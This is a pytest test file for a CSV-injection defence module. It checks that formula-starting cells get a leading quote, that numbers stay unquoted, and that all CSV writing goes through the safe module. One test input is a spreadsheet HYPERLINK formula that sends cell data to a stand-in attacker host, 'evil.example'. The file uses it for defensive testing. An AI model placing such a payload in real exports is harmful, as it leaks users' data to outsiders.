"""`core.csvsafe`: no CSV cell we write opens as a formula, numbers stay numbers, and what
was written is read back exactly (less the one quote added in front)."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from steadfast.core import csvsafe
from steadfast.core.csvsafe import DANGEROUS_STARTS, safe_cell

ROOT = Path(__file__).resolve().parents[3]


def written(*rows):
    out = io.StringIO()
    csvsafe.writer(out).writerows(rows)
    return out.getvalue()


def read_back(text):
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", DANGEROUS_STARTS)
def test_text_that_would_start_a_formula_gets_one_quote_in_front(start):
    text = f'{start}HYPERLINK("http://evil.example/?d="&A1,"Click")'
    assert safe_cell(text) == "'" + text
    assert read_back(written([text, "plain"])) == [["'" + text, "plain"]]


@pytest.mark.parametrize(
    "text", ["Team 001", "Dispatch", "", " =starts with a space", "'=already quoted", "a=b", "1-2"]
)
def test_other_text_is_written_as_it_is(text):
    assert safe_cell(text) == text
    assert read_back(written([text])) == [[text]]


@pytest.mark.parametrize("number", [-1.53, -2, 0, 3.5, Decimal("-0.25"), -1e-09])
def test_negative_numbers_stay_numbers(number):
    assert safe_cell(number) is number
    (row,) = read_back(written([number]))
    assert row == [str(number)]
    assert type(number)(row[0]) == number


def test_none_is_an_empty_cell_and_other_values_are_checked_as_text():
    class Sneaky:
        def __str__(self):
            return "=1+1"

    assert read_back(written([None, date(2026, 1, 2), Sneaky()])) == [["", "2026-01-02", "'=1+1"]]


def test_the_dict_writer_checks_every_cell_the_header_and_the_missing_value():
    out = io.StringIO()
    writer = csvsafe.DictWriter(out, ["group", "n", "-odd"], restval="@none")
    writer.writeheader()
    writer.writerow({"group": "=cmd", "n": -3})
    writer.writerows([{"group": "+x", "n": 4.5, "-odd": "-y"}])
    assert read_back(out.getvalue()) == [
        ["group", "n", "'-odd"],
        ["'=cmd", "-3", "'@none"],
        ["'+x", "4.5", "'-y"],
    ]


@settings(max_examples=300, deadline=None)
@given(text=st.text(), other=st.text())
def test_any_text_is_never_a_formula_and_reads_back_as_written(text, other):
    cell = safe_cell(text)
    assert not cell.startswith(DANGEROUS_STARTS)
    assert read_back(written([text, other])) == [[cell, safe_cell(other)]]
    if text.startswith(DANGEROUS_STARTS):
        assert cell == "'" + text
    else:
        assert cell == text


@settings(max_examples=200, deadline=None)
@given(number=st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_any_number_is_written_as_a_number(number):
    (row,) = read_back(written([number, "x"]))
    assert type(number)(row[0]) == number
    assert not row[0].startswith("'")


def test_no_module_of_ours_writes_csv_without_csvsafe():
    """Every CSV the product writes goes through `core.csvsafe`: nothing else calls the
    standard library's writers."""
    direct = re.compile(r"\bcsv\.(writer|DictWriter)\b|from csv import")
    offenders = [
        str(path.relative_to(ROOT))
        for top in ("steadfast", "config", "bench")
        for path in (ROOT / top).rglob("*.py")
        if "tests" not in path.parts
        and path != ROOT / "steadfast/core/csvsafe.py"
        and direct.search(path.read_text())
    ]
    assert offenders == []
